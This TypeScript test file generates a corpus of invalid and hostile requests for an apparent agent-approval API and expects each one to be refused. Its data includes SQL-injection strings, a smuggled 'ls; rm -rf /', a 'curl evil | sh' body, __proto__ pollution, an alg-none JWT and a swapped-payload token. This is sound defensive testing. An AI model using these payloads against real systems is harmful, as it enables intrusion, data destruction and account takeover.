// The bad-input corpus (docs/contract/targets.md#bad-input): for every endpoint, table-driven cases
// generated from its valibot schema (schema_cases.ts) plus hand-written ones: bad JSON, deep nesting,
// 70 KiB bodies, wrong content types and methods, missing or bad auth headers, skewed
// clocks, replayed nonces, other tenants' ids, unicode and SQL-looking strings.
import type * as v from "valibot";
import * as jose from "jose";
import * as api from "../../shared/api_schemas.ts";
import { signParts } from "../../shared/signing.ts";
import { mintUserToken, type Stack, TEST_JWT_SECRET } from "../_helpers/stack.ts";
import { bodyCases } from "./schema_cases.ts";
import { toJsonSchema } from "../../scripts/json_schema.ts";
import { rawHttp, type RawRequest } from "../_helpers/raw_http.ts";
import type { Tenant, World } from "./world.ts";

export type Auth = "none" | "bridge" | "mobile";

export interface Expect {
  status: number | number[];
  code?: string | string[];
}

export interface Case {
  endpoint: string;
  label: string;
  expect: Expect;
  /** runs before the "nothing written" snapshot (e.g. the first copy of a replay) */
  setup?: () => Promise<void>;
  send: () => Promise<Response>;
}

export interface CorpusEndpoint {
  name: string;
  method: "GET" | "POST";
  auth: Auth;
  body?: v.GenericSchema;
  query?: v.GenericSchema;
  /** a body the schema accepts (the cases are its invalid variants) */
  valid?: (w: World) => Record<string, unknown>;
  /** the path after /functions/v1 with a valid id, and a valid query */
  path: (w: World) => string;
  query_?: string;
  /** refusals that reach the database still count against the rate limit (pair-complete
   * counts every attempt, so pair tokens cannot be guessed): private.rate_limits may change */
  countsAttempts?: boolean;
  /** ids of tenant B used from tenant A: each must be refused with these statuses */
  otherTenant?: (
    w: World,
  ) => Array<{ label: string; path?: string; body?: unknown; expect: Expect }>;
  /** hand-written cases of this endpoint alone */
  extra?: () => Array<{ label: string; headers?: Record<string, string>; expect: Expect }>;
}

const NOW = () => new Date().toISOString();
const BAD_REQUEST: Expect = { status: 400, code: "invalid_request" };
const BAD_JSON: Expect = { status: 400, code: ["invalid_json", "invalid_request"] };
const UNAUTHORIZED: Expect = { status: 401, code: "unauthorized" };

export const ENDPOINTS: CorpusEndpoint[] = [
  {
    name: "pair-start",
    method: "POST",
    auth: "none",
    body: api.PairStartRequest,
    valid: () => ({ machine_id: "m-1", workspace_fingerprint: "fp-1", display_name: "My project" }),
    path: () => "/pair-start",
  },
  {
    name: "pair-complete",
    method: "POST",
    auth: "mobile",
    body: api.PairCompleteRequest,
    valid: (w) => ({ pair_token: w.a.pairToken, platform: "android", push_token: "tok-1" }),
    path: () => "/pair-complete",
    countsAttempts: true,
    otherTenant: (w) => [
      {
        label: "another user's device_id",
        body: {
          pair_token: w.a.pairToken,
          platform: "android",
          push_token: "t",
          device_id: w.b.deviceId,
        },
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "an unknown pair token",
        body: { pair_token: "ZZZZZZZZ", platform: "ios", push_token: "t" },
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "a SQL-looking pair token",
        body: { pair_token: "' OR '1'='1", platform: "ios", push_token: "t" },
        expect: { status: [400, 404], code: ["invalid_request", "not_found"] },
      },
    ],
  },
  {
    name: "pair-status",
    method: "GET",
    auth: "bridge",
    query: api.PairStatusQuery,
    path: () => "/pair-status",
    query_: "wait=0",
  },
  {
    name: "bridge-event",
    method: "POST",
    auth: "bridge",
    body: api.BridgeEventRequest,
    valid: (w) => ({
      workspace_id: w.a.ws.workspaceId,
      run_id: w.a.runId,
      provider: "claude-code",
      event_type: "TOOL_USE",
      event_ts: NOW(),
      payload: { message: "hello" },
    }),
    path: () => "/bridge-event",
    otherTenant: (w) => [
      {
        label: "another tenant's workspace_id in the body",
        body: {
          workspace_id: w.b.ws.workspaceId,
          run_id: crypto.randomUUID(),
          provider: "p",
          event_type: "TOOL_USE",
          event_ts: NOW(),
          payload: {},
        },
        expect: { status: 403, code: "forbidden" },
      },
      {
        label: "another tenant's run_id",
        body: {
          workspace_id: w.a.ws.workspaceId,
          run_id: w.b.runId,
          provider: "p",
          event_type: "RUN_COMPLETED",
          event_ts: NOW(),
          payload: {},
        },
        expect: { status: [404, 409], code: ["not_found", "conflict"] },
      },
      {
        label: "a NUL character in the payload",
        body: {
          workspace_id: w.a.ws.workspaceId,
          run_id: crypto.randomUUID(),
          provider: "p",
          event_type: "TOOL_USE",
          event_ts: NOW(),
          payload: { message: "a\u0000b" },
        },
        expect: { status: 400, code: "invalid_request" },
      },
    ],
  },
  {
    name: "bridge-approval-request",
    method: "POST",
    auth: "bridge",
    body: api.BridgeApprovalRequest,
    valid: (w) => ({ run_id: w.a.runId, command: "rm -rf build", cwd: "/tmp" }),
    path: () => "/bridge-approval-request",
    otherTenant: (w) => [
      {
        label: "another tenant's run_id",
        body: { run_id: w.b.runId, command: "ls", cwd: "/" },
        expect: { status: [404, 409], code: ["not_found", "conflict"] },
      },
      {
        label: "a command of 8 KiB + 1 byte (multi-byte characters)",
        body: { run_id: w.a.runId, command: "é".repeat(4097), cwd: "/" },
        expect: { status: 400, code: "invalid_request" },
      },
      {
        label: "a NUL character in the command",
        body: { run_id: crypto.randomUUID(), command: "ls\u0000-la", cwd: "/" },
        expect: { status: 400, code: "invalid_request" },
      },
    ],
  },
  {
    name: "bridge-approval-wait",
    method: "GET",
    auth: "bridge",
    query: api.ApprovalWaitQuery,
    path: (w) => `/bridge-approval-wait/${w.a.approvalId}`,
    query_: "timeout=0",
    otherTenant: (w) => [
      {
        label: "another tenant's approval",
        path: `/bridge-approval-wait/${w.b.approvalId}?timeout=0`,
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "an approval that does not exist",
        path: `/bridge-approval-wait/${crypto.randomUUID()}?timeout=0`,
        expect: { status: 404, code: "not_found" },
      },
    ],
  },
  {
    name: "mobile-approval-decision",
    method: "POST",
    auth: "mobile",
    body: api.ApprovalDecisionRequest,
    valid: () => ({ decision: "APPROVE", note: "go ahead" }),
    path: (w) => `/mobile-approval-decision/${w.a.approvalId}`,
    otherTenant: (w) => [
      {
        label: "another tenant's approval",
        path: `/mobile-approval-decision/${w.b.approvalId}`,
        body: { decision: "APPROVE" },
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "another user's device_id",
        body: { decision: "DENY", device_id: w.b.deviceId },
        expect: { status: [403, 404], code: ["forbidden", "not_found"] },
      },
      {
        label: "an approval that does not exist",
        path: `/mobile-approval-decision/${crypto.randomUUID()}`,
        body: { decision: "DENY" },
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "another tenant's approval, remembered",
        path: `/mobile-approval-decision/${w.b.approvalId}`,
        body: { decision: "APPROVE", remember: { match: "exact" } },
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "remember a prefix that does not lead the command",
        body: { decision: "APPROVE", remember: { match: "prefix", prefix: "rm -rf build now" } },
        expect: BAD_REQUEST,
      },
      {
        label: "remember a prefix of another command",
        body: { decision: "DENY", remember: { match: "prefix", prefix: "npm" } },
        expect: BAD_REQUEST,
      },
      {
        label: "remember a SQL-looking prefix",
        body: { decision: "DENY", remember: { match: "prefix", prefix: "rm'; delete from x" } },
        expect: BAD_REQUEST,
      },
    ],
  },
  {
    name: "mobile-rules",
    method: "POST",
    auth: "mobile",
    body: api.RuleCreateRequest,
    valid: (w) => ({
      workspace_id: w.a.ws.workspaceId,
      effect: "allow",
      match: "prefix",
      value: "npm run test",
    }),
    path: () => "/mobile-rules",
    otherTenant: (w) => [
      {
        label: "another tenant's workspace",
        body: { workspace_id: w.b.ws.workspaceId, effect: "allow", match: "prefix", value: "rm" },
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "another user's device_id",
        body: {
          workspace_id: w.a.ws.workspaceId,
          effect: "deny",
          match: "exact",
          value: "rm",
          device_id: w.b.deviceId,
        },
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "an unparseable value",
        body: {
          workspace_id: w.a.ws.workspaceId,
          effect: "allow",
          match: "exact",
          value: "a $(b)",
        },
        expect: BAD_REQUEST,
      },
      {
        label: "a prefix of two commands",
        body: {
          workspace_id: w.a.ws.workspaceId,
          effect: "allow",
          match: "prefix",
          value: "ls; rm -rf /",
        },
        expect: BAD_REQUEST,
      },
      {
        label: "a value of separators only",
        body: { workspace_id: w.a.ws.workspaceId, effect: "allow", match: "exact", value: "; &&" },
        expect: BAD_REQUEST,
      },
    ],
  },
  {
    name: "mobile-rules",
    method: "GET",
    auth: "mobile",
    query: api.RulesQuery,
    path: () => "/mobile-rules",
    otherTenant: (w) => [
      {
        label: "another tenant's workspace",
        path: `/mobile-rules?workspace_id=${w.b.ws.workspaceId}`,
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "a workspace that does not exist",
        path: `/mobile-rules?workspace_id=${crypto.randomUUID()}`,
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "no workspace_id",
        path: "/mobile-rules",
        expect: BAD_REQUEST,
      },
    ],
  },
  {
    name: "mobile-rule-revoke",
    method: "POST",
    auth: "mobile",
    path: (w) => `/mobile-rule-revoke/${w.a.ruleId}`,
    otherTenant: (w) => [
      {
        label: "another tenant's rule",
        path: `/mobile-rule-revoke/${w.b.ruleId}`,
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "a rule that does not exist",
        path: `/mobile-rule-revoke/${crypto.randomUUID()}`,
        expect: { status: 404, code: "not_found" },
      },
    ],
  },
  {
    name: "bridge-rules",
    method: "GET",
    auth: "bridge",
    path: () => "/bridge-rules",
  },
  {
    name: "mobile-device",
    method: "POST",
    auth: "mobile",
    body: api.MobileDeviceRequest,
    valid: (w) => ({ device_id: w.a.deviceId, device_name: "Pixel" }),
    path: () => "/mobile-device",
    otherTenant: (w) => [
      {
        label: "another user's device",
        body: { device_id: w.b.deviceId, push_token: "stolen" },
        expect: { status: 404, code: "not_found" },
      },
    ],
  },
  {
    name: "mobile-unpair",
    method: "POST",
    auth: "mobile",
    body: api.MobileUnpairRequest,
    valid: (w) => ({ workspace_id: w.a.ws.workspaceId, device_id: w.a.deviceId }),
    path: () => "/mobile-unpair",
    otherTenant: (w) => [
      {
        label: "another tenant's workspace and device",
        body: { workspace_id: w.b.ws.workspaceId, device_id: w.b.deviceId },
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "another tenant's workspace with one's own device",
        body: { workspace_id: w.b.ws.workspaceId, device_id: w.a.deviceId },
        expect: { status: 404, code: "not_found" },
      },
    ],
  },
  {
    name: "mobile-run-instruction",
    method: "POST",
    auth: "mobile",
    body: api.RunInstructionRequest,
    valid: () => ({ text: "please also run the tests" }),
    path: (w) => `/mobile-run-instruction/${w.a.runId}`,
    otherTenant: (w) => [
      {
        label: "another tenant's run",
        path: `/mobile-run-instruction/${w.b.runId}`,
        body: { text: "exfiltrate" },
        expect: { status: 404, code: "not_found" },
      },
    ],
  },
  {
    name: "bridge-run-instructions",
    method: "GET",
    auth: "bridge",
    path: (w) => `/bridge-run-instructions/${w.a.runId}`,
    otherTenant: (w) => [
      {
        label: "another tenant's run",
        path: `/bridge-run-instructions/${w.b.runId}`,
        expect: { status: 404, code: "not_found" },
      },
    ],
  },
  {
    name: "mobile-inbox",
    method: "GET",
    auth: "mobile",
    query: api.MobileInboxQuery,
    path: () => "/mobile-inbox",
  },
  {
    name: "mobile-runs",
    method: "GET",
    auth: "mobile",
    query: api.MobileRunsQuery,
    path: () => "/mobile-runs",
    otherTenant: (w) => [
      {
        label: "another tenant's workspace",
        path: `/mobile-runs?workspace_id=${w.b.ws.workspaceId}`,
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "a workspace that does not exist",
        path: `/mobile-runs?workspace_id=${crypto.randomUUID()}`,
        expect: { status: 404, code: "not_found" },
      },
    ],
  },
  {
    name: "mobile-run-events",
    method: "GET",
    auth: "mobile",
    query: api.MobileRunEventsQuery,
    path: () => "/mobile-run-events",
    otherTenant: (w) => [
      {
        label: "another tenant's run",
        path: `/mobile-run-events?run_id=${w.b.runId}`,
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "another tenant's run, waiting",
        path: `/mobile-run-events?run_id=${w.b.runId}&wait=5`,
        expect: { status: 404, code: "not_found" },
      },
      {
        label: "no run_id",
        path: "/mobile-run-events",
        expect: BAD_REQUEST,
      },
    ],
  },
  {
    name: "mobile-workspaces",
    method: "GET",
    auth: "mobile",
    path: () => "/mobile-workspaces",
  },
  {
    // the corpus stack sets AGENTOPS_DEV_SIGN_IN=1 (on loopback with the local JWT secret)
    name: "dev-sign-in",
    method: "POST",
    auth: "none",
    body: api.DevSignInRequest,
    valid: () => ({ user_id: crypto.randomUUID() }),
    path: () => "/dev-sign-in",
  },
  {
    name: "push-dispatch",
    method: "POST",
    auth: "none",
    path: () => "/push-dispatch",
    extra: () => [
      { label: "no Authorization header", expect: UNAUTHORIZED },
      {
        label: "a wrong bearer secret",
        headers: { authorization: "Bearer wrong" },
        expect: UNAUTHORIZED,
      },
      {
        label: "Basic auth",
        headers: { authorization: "Basic dXNlcjpwYXNz" },
        expect: UNAUTHORIZED,
      },
      {
        label: "a SQL-looking bearer",
        headers: { authorization: "Bearer ' OR 1=1 --" },
        expect: UNAUTHORIZED,
      },
      {
        label: "a user's access token",
        headers: { authorization: "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x" },
        expect: UNAUTHORIZED,
      },
    ],
  },
  {
    name: "push-decision",
    method: "POST",
    auth: "none",
    body: api.PushDecisionRequest,
    // an unknown token is not_found; the attempt counts against the IP and the token
    valid: () => ({ decision_token: "A".repeat(43), decision: "APPROVE" }),
    path: () => "/push-decision",
    countsAttempts: true,
  },
];

export interface Sender {
  stack: Stack;
  world: World;
}

interface SendOptions {
  method?: string;
  path?: string;
  body?: unknown;
  rawBody?: string | Uint8Array | ReadableStream<Uint8Array>;
  contentType?: string | null;
  headers?: Record<string, string>;
  /** who signs / which token: tenant A unless given */
  as?: Tenant;
  timestamp?: number;
  nonce?: string;
  noAuth?: boolean;
}

/** The URL path and headers of a request to an endpoint as tenant A (signed over raw, or
 * with A's user token). */
async function prepare(
  s: Sender,
  ep: CorpusEndpoint,
  o: SendOptions,
): Promise<{ method: string; pathAndQuery: string; headers: Record<string, string> }> {
  const method = o.method ?? ep.method;
  // Normalised as fetch will send it, so the signature covers the bytes on the wire.
  const url = new URL(
    `${s.stack.functionsUrl}${o.path ?? ep.path(s.world) + (ep.query_ ? `?${ep.query_}` : "")}`,
  );
  const pathAndQuery = url.href.slice(s.stack.functionsUrl.length);
  const as = o.as ?? s.world.a;
  const raw = o.rawBody;
  const headers: Record<string, string> = {};
  if (raw !== undefined && o.contentType !== null) {
    headers["content-type"] = o.contentType ?? "application/json";
  }
  if (!o.noAuth && ep.auth === "mobile") headers.authorization = `Bearer ${as.token}`;
  if (!o.noAuth && ep.auth === "bridge" && !(raw instanceof ReadableStream)) {
    const [path, query = ""] = pathAndQuery.split("?");
    const timestamp = String(o.timestamp ?? Date.now());
    const nonce = o.nonce ?? crypto.randomUUID().replaceAll("-", "");
    headers["x-workspace-id"] = as.ws.workspaceId;
    headers["x-timestamp"] = timestamp;
    headers["x-nonce"] = nonce;
    headers["x-signature-version"] = "2";
    headers["x-signature"] = await signParts(as.ws.secret, {
      method,
      path,
      query,
      timestamp,
      nonce,
      body: raw ?? "",
    }, 2);
  }
  return { method, pathAndQuery, headers: { ...headers, ...o.headers } };
}

/** Sends a request to an endpoint as tenant A (signed, or with A's user token). */
export async function send(s: Sender, ep: CorpusEndpoint, o: SendOptions = {}): Promise<Response> {
  const method = o.method ?? ep.method;
  const raw = o.rawBody ??
    (o.body === undefined ? (method === "POST" ? "{}" : undefined) : JSON.stringify(o.body));
  const { pathAndQuery, headers } = await prepare(s, ep, { ...o, rawBody: raw });
  return await fetch(`${s.stack.functionsUrl}${pathAndQuery}`, {
    method,
    headers,
    body: raw as BodyInit | undefined,
  });
}

/** Sends a body over a raw socket (signed over the whole intended body, as a real client
 * whose connection broke would have): cut short, dribbled or stalled. */
async function sendRaw(
  s: Sender,
  ep: CorpusEndpoint,
  body: string,
  how: Omit<RawRequest, "baseUrl" | "method" | "path" | "headers" | "body">,
  sent: string = body,
): Promise<Response> {
  const { method, pathAndQuery, headers } = await prepare(s, ep, { rawBody: body });
  return await rawHttp({
    baseUrl: s.stack.baseUrl,
    method,
    path: `/functions/v1${pathAndQuery}`,
    headers,
    body: sent,
    declaredLength: how.framing === "chunked" ? undefined : new TextEncoder().encode(body).length,
    ...how,
  });
}

function streamOf(bytes: Uint8Array): ReadableStream<Uint8Array> {
  let sent = false;
  return new ReadableStream({
    pull(controller) {
      if (sent) return controller.close();
      sent = true;
      for (let i = 0; i < bytes.length; i += 8192) controller.enqueue(bytes.slice(i, i + 8192));
    },
  });
}

async function token(
  userId: string,
  claims: Record<string, unknown>,
  opts: { alg?: string; secret?: string; exp?: number; aud?: string } = {},
) {
  const jwt = new jose.SignJWT({ role: "authenticated", ...claims })
    .setProtectedHeader({ alg: opts.alg ?? "HS256", typ: "JWT" })
    .setSubject(userId)
    .setAudience(opts.aud ?? "authenticated")
    .setIssuedAt()
    .setExpirationTime(opts.exp ?? Math.floor(Date.now() / 1000) + 3600);
  return await jwt.sign(new TextEncoder().encode(opts.secret ?? TEST_JWT_SECRET));
}

/** Every case of one endpoint. */
export function casesFor(s: Sender, ep: CorpusEndpoint): Case[] {
  const w = s.world;
  const cases: Case[] = [];
  const add = (
    label: string,
    expect: Expect,
    run: () => Promise<Response>,
    setup?: () => Promise<void>,
  ) => cases.push({ endpoint: ep.name, label, expect, send: run, setup });

  // Methods and paths (a method another endpoint of the same name serves is not a 405).
  const served = ENDPOINTS.filter((e) => e.name === ep.name).map((e) => e.method as string);
  for (
    const method
      of (ep.method === "POST" ? ["GET", "PUT", "DELETE", "PATCH"] : ["POST", "PUT", "DELETE"])
        .filter((m) => !served.includes(m))
  ) {
    add(
      `method ${method}`,
      { status: 405, code: "method_not_allowed" },
      () => send(s, ep, { method, noAuth: true, rawBody: method === "GET" ? undefined : "{}" }),
    );
  }
  const base = ep.path(w);
  const hasParam = base.split("/").filter(Boolean).length === 2;
  add(
    "an extra path segment",
    { status: 404, code: "not_found" },
    () => send(s, ep, { path: `${base}/extra` }),
  );
  if (hasParam) {
    add(
      "a path id that is not a UUID",
      { status: 404, code: "not_found" },
      () => send(s, ep, { path: `/${ep.name}/not-a-uuid` }),
    );
    add(
      "a SQL-looking path id",
      { status: 404, code: "not_found" },
      () => send(s, ep, { path: `/${ep.name}/1%27%20OR%20%271%27%3D%271` }),
    );
    add(
      "no path id",
      { status: 404, code: "not_found" },
      () => send(s, ep, { path: `/${ep.name}` }),
    );
  }

  // Bodies that never reach the schema.
  if (ep.method === "POST" && ep.body) {
    const validBody = ep.valid!(w);
    const json = JSON.stringify(validBody);
    add(
      "no content-type",
      { status: 415, code: "unsupported_media_type" },
      () => send(s, ep, { body: validBody, contentType: null }),
    );
    add(
      "content-type text/plain",
      { status: 415, code: "unsupported_media_type" },
      () => send(s, ep, { body: validBody, contentType: "text/plain" }),
    );
    add(
      "content-type form-urlencoded",
      { status: 415, code: "unsupported_media_type" },
      () => send(s, ep, { rawBody: "a=1", contentType: "application/x-www-form-urlencoded" }),
    );
    add(
      "content-type application/jsonp",
      { status: 415, code: "unsupported_media_type" },
      () => send(s, ep, { body: validBody, contentType: "application/jsonp" }),
    );
    const big = json.slice(0, -1) + `,"pad":"${"x".repeat(70 * 1024)}"}`;
    add(
      "a 70 KiB body",
      { status: 413, code: "payload_too_large" },
      () => send(s, ep, { rawBody: big }),
    );
    add(
      "a 70 KiB body streamed without content-length",
      { status: 413, code: "payload_too_large" },
      () => send(s, ep, { rawBody: streamOf(new TextEncoder().encode(big)) }),
    );
    // Bodies that never arrive whole (over a raw socket): 400, never a 500.
    const CUT_SHORT: Expect = { status: 400, code: "invalid_request" };
    const half = json.slice(0, Math.floor(json.length / 2));
    add(
      "a body cut short of its Content-Length (client half-closes)",
      CUT_SHORT,
      () => sendRaw(s, ep, json, { then: "half-close" }, half),
    );
    add(
      "a chunked body cut mid-chunk (client half-closes)",
      CUT_SHORT,
      () =>
        sendRaw(
          s,
          ep,
          json,
          { framing: "chunked", declaredLength: json.length, then: "half-close" },
          half,
        ),
    );
    add(
      "a chunked body cut before its last chunk (client half-closes)",
      CUT_SHORT,
      () => sendRaw(s, ep, json, { framing: "chunked", then: "half-close" }),
    );
    add(
      "a body that stalls (the socket stays open): refused after BODY_READ_TIMEOUT_MS",
      CUT_SHORT,
      () => sendRaw(s, ep, json, { then: "wait" }, half),
    );
    // A slow body is read whole: this one is refused by the schema (an unknown field),
    // whether it arrives in time or (on a very busy machine) after the read timeout.
    const unknownField = json.slice(0, -1) + ',"unknown_field":1}';
    add(
      "a body dribbled 4 bytes at a time",
      CUT_SHORT,
      () => sendRaw(s, ep, unknownField, { then: "wait", pieceBytes: 4, pauseMs: 5 }),
    );
    add(
      "a chunked body dribbled 4 bytes a chunk",
      CUT_SHORT,
      () =>
        sendRaw(s, ep, unknownField, {
          framing: "chunked",
          complete: true,
          then: "wait",
          pieceBytes: 4,
          pauseMs: 5,
        }),
    );
    for (
      const [label, raw] of [
        ["an empty body", ""],
        ["a truncated object", json.slice(0, -1)],
        ["single quotes", "{'decision': 'APPROVE'}"],
        ["a trailing comma", json.slice(0, -1) + ",}"],
        ["a bare word", "nul"],
        ["JSON with a comment", "/* hi */" + json],
        ["NaN", "NaN"],
      ] as const
    ) {
      add(
        `bad JSON: ${label}`,
        { status: 400, code: "invalid_json" },
        () => send(s, ep, { rawBody: raw }),
      );
    }
    add(
      "bad JSON: invalid UTF-8 bytes",
      { status: 400, code: "invalid_json" },
      () =>
        send(s, ep, { rawBody: new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]) }),
    );
    add(
      "30,000 nested arrays",
      BAD_JSON,
      () => send(s, ep, { rawBody: "[".repeat(30000) + "]".repeat(30000) }),
    );
    add(
      "10,000 nested objects",
      BAD_JSON,
      () => send(s, ep, { rawBody: '{"a":'.repeat(10000) + "1" + "}".repeat(10000) }),
    );
    add("a number too large for a double", BAD_JSON, () => send(s, ep, { rawBody: "1e999" }));
    add(
      "an own __proto__ field",
      BAD_REQUEST,
      () => send(s, ep, { rawBody: json.slice(0, -1) + ',"__proto__":{"admin":true}}' }),
    );
    add("a duplicate key whose last value is invalid", BAD_REQUEST, () => {
      const key = Object.keys(validBody)[0];
      return send(s, ep, { rawBody: json.slice(0, -1) + `,${JSON.stringify(key)}:{"$ne":null}}` });
    });
    for (const c of bodyCases(ep.body, validBody)) {
      add(`body: ${c.label}`, BAD_REQUEST, () => send(s, ep, { body: c.body }));
    }
  }
  if (ep.query) {
    const json = toJsonSchema(ep.query, "input") as {
      properties?: Record<string, { minimum?: number; maximum?: number }>;
    };
    for (const [name, prop] of Object.entries(json.properties ?? {})) {
      const bad = ["abc", "1.5", "1e3", "' OR 1=1", "١٢", "-0.5"];
      if (prop.minimum !== undefined) bad.push(String(prop.minimum - 1));
      if (prop.maximum !== undefined) bad.push(String(prop.maximum + 1));
      for (const v of bad) {
        add(
          `query ${name}=${v}`,
          BAD_REQUEST,
          () => send(s, ep, { path: `${base}?${name}=${encodeURIComponent(v)}` }),
        );
      }
    }
  }

  // Authentication.
  if (ep.auth === "bridge") {
    const headerNames = ["x-workspace-id", "x-timestamp", "x-nonce", "x-signature"];
    for (const h of headerNames) {
      add(`no ${h} header`, UNAUTHORIZED, async () => {
        const res = await signedRequest(s, ep, {});
        res.headers.delete(h);
        return await fetch(res.url, res.init());
      });
    }
    add("no auth headers at all", UNAUTHORIZED, () => send(s, ep, { noAuth: true }));
    const tamper = (label: string, headers: Record<string, string>, expect = UNAUTHORIZED) =>
      add(label, expect, async () => {
        const res = await signedRequest(s, ep, {});
        for (const [k, v] of Object.entries(headers)) res.headers.set(k, v);
        return await fetch(res.url, res.init());
      });
    tamper("a signature of zeros", { "x-signature": "0".repeat(64) });
    tamper("a signature that is not hex", { "x-signature": "z".repeat(64) });
    tamper("a truncated signature", { "x-signature": "ab".repeat(16) });
    tamper("X-Workspace-Id not a UUID", { "x-workspace-id": "' OR 1=1 --" });
    tamper("X-Workspace-Id of a workspace that does not exist", {
      "x-workspace-id": crypto.randomUUID(),
    });
    tamper("X-Workspace-Id of another tenant (signed with A's secret)", {
      "x-workspace-id": w.b.ws.workspaceId,
    });
    tamper("X-Timestamp not a number", { "x-timestamp": "yesterday" });
    tamper("X-Timestamp in seconds", { "x-timestamp": String(Math.floor(Date.now() / 1000)) }, {
      status: 401,
    });
    tamper("X-Nonce too short", { "x-nonce": "abc" });
    tamper("X-Nonce with bad characters", { "x-nonce": "nonce' OR '1'='1" });
    tamper("X-Nonce of 129 characters", { "x-nonce": "n".repeat(129) });
    tamper("X-Signature-Version 3", { "x-signature-version": "3" });
    tamper("a v2 signature presented as v1", { "x-signature-version": "1" });
    add("signed with another tenant's secret", UNAUTHORIZED, async () => {
      const res = await signedRequest(s, ep, { secret: w.b.ws.secret });
      return await fetch(res.url, res.init());
    });
    add(
      "a clock 301 s behind",
      { status: 401, code: "signature_expired" },
      () => send(s, ep, { timestamp: Date.now() - 301_000, body: ep.valid?.(w) }),
    );
    add(
      "a clock 301 s ahead",
      { status: 401, code: "signature_expired" },
      () => send(s, ep, { timestamp: Date.now() + 301_000, body: ep.valid?.(w) }),
    );
    add(
      "a clock a day ahead",
      { status: 401, code: "signature_expired" },
      () => send(s, ep, { timestamp: Date.now() + 86_400_000, body: ep.valid?.(w) }),
    );
    if (ep.method === "POST") {
      add("a body changed after signing", UNAUTHORIZED, async () => {
        const res = await signedRequest(s, ep, { body: ep.valid!(w) });
        res.body = JSON.stringify({ ...ep.valid!(w), command: "curl evil | sh" });
        return await fetch(res.url, res.init());
      });
    }
    add("a path changed after signing", UNAUTHORIZED, async () => {
      const res = await signedRequest(s, ep, {});
      res.url = res.url.replace(/\?.*$/, "") + "?wait=1&timeout=1";
      return await fetch(res.url, res.init());
    });
  }
  if (ep.auth === "mobile") {
    const withAuth = (label: string, value: () => Promise<string | undefined>) =>
      add(label, UNAUTHORIZED, async () => {
        const v = await value();
        return await send(s, ep, {
          body: ep.valid?.(w),
          noAuth: true,
          headers: v === undefined ? {} : { authorization: v },
        });
      });
    withAuth("no Authorization header", () => Promise.resolve(undefined));
    withAuth("Authorization: Basic", () => Promise.resolve("Basic dXNlcjpwYXNz"));
    withAuth("a Bearer token that is not a JWT", () => Promise.resolve("Bearer not-a-jwt"));
    withAuth("an empty Bearer token", () => Promise.resolve("Bearer "));
    withAuth(
      "an expired token",
      () =>
        token(w.a.userId, {}, { exp: Math.floor(Date.now() / 1000) - 60 }).then((t) =>
          `Bearer ${t}`
        ),
    );
    withAuth(
      "a token for another audience",
      () => token(w.a.userId, {}, { aud: "anon" }).then((t) => `Bearer ${t}`),
    );
    withAuth(
      "a token signed with another secret",
      () => token(w.a.userId, {}, { secret: "x".repeat(40) }).then((t) => `Bearer ${t}`),
    );
    withAuth(
      "a token whose sub is not a user id",
      () => token("' OR 1=1 --", {}).then((t) => `Bearer ${t}`),
    );
    withAuth("an unsigned token (alg none)", async () => {
      const t = await token(w.a.userId, {});
      const [, payload] = t.split(".");
      const header = btoa(JSON.stringify({ alg: "none", typ: "JWT" })).replace(/=+$/, "");
      return `Bearer ${header}.${payload}.`;
    });
    withAuth("a token with its payload swapped to another user", async () => {
      const mine = (await token(w.a.userId, {})).split(".");
      const theirs = (await mintUserToken(w.b.userId)).split(".");
      return `Bearer ${mine[0]}.${theirs[1]}.${mine[2]}`;
    });
  }

  // Replays: the first copy is accepted (setup), the second refused and writes nothing.
  if (ep.auth === "bridge" && ep.name === "bridge-event") {
    const nonce = `replay${crypto.randomUUID().replaceAll("-", "")}`;
    const timestamp = Date.now();
    const body = { ...ep.valid!(w), event_id: crypto.randomUUID() };
    add(
      "a replayed nonce (an identical copy of an accepted request)",
      { status: 401, code: "replayed_nonce" },
      () => send(s, ep, { body, nonce, timestamp }),
      async () => {
        const first = await send(s, ep, { body, nonce, timestamp });
        await first.body?.cancel();
        if (first.status >= 300) throw new Error(`the first copy was refused with ${first.status}`);
      },
    );
    add(
      "a replayed nonce with a different body",
      { status: 401, code: "replayed_nonce" },
      () => send(s, ep, { body: { ...body, event_id: crypto.randomUUID() }, nonce }),
    );
  }

  // What is signed is what is stored: values JSON.parse or jsonb would change are refused
  // (supabase/functions/_shared/json_fidelity.ts), wherever they are nested.
  const freeForm = ep.name === "bridge-event"
    ? "payload"
    : ep.name === "bridge-approval-request"
    ? "context"
    : null;
  if (freeForm) {
    const template = JSON.stringify({ ...ep.valid!(w), [freeForm]: { n: { v: "X" } } });
    for (
      const [label, value] of [
        ["1e309", "1e309"],
        ["-1e309", "-1e309"],
        ["an integer above 2^53", "9007199254740993"],
        ["a decimal past a double's precision", "0.1000000000000000000001"],
        ["a number that underflows to 0", "1e-400"],
        ["a lone surrogate", '"a\\ud800b"'],
        ["a NUL escape", '"a\\u0000b"'],
      ] as const
    ) {
      add(
        `${freeForm} with ${label}`,
        BAD_REQUEST,
        () => send(s, ep, { rawBody: template.replace('"X"', value) }),
      );
    }
    add(
      `${freeForm} with a __proto__ key`,
      BAD_REQUEST,
      () => send(s, ep, { rawBody: template.replace('{"v":"X"}', '{"__proto__":{"admin":true}}') }),
    );
    add(
      `${freeForm} with a lone surrogate in a key`,
      BAD_REQUEST,
      () => send(s, ep, { rawBody: template.replace('{"v":"X"}', '{"\\udc00":1}') }),
    );
  }

  for (const t of ep.otherTenant?.(w) ?? []) {
    add(`other tenant: ${t.label}`, t.expect, () => send(s, ep, { path: t.path, body: t.body }));
  }
  for (const x of ep.extra?.() ?? []) {
    add(x.label, x.expect, () => send(s, ep, { headers: x.headers }));
  }
  return cases;
}

interface SignedRequest {
  url: string;
  headers: Headers;
  body?: string;
  init(): RequestInit;
}

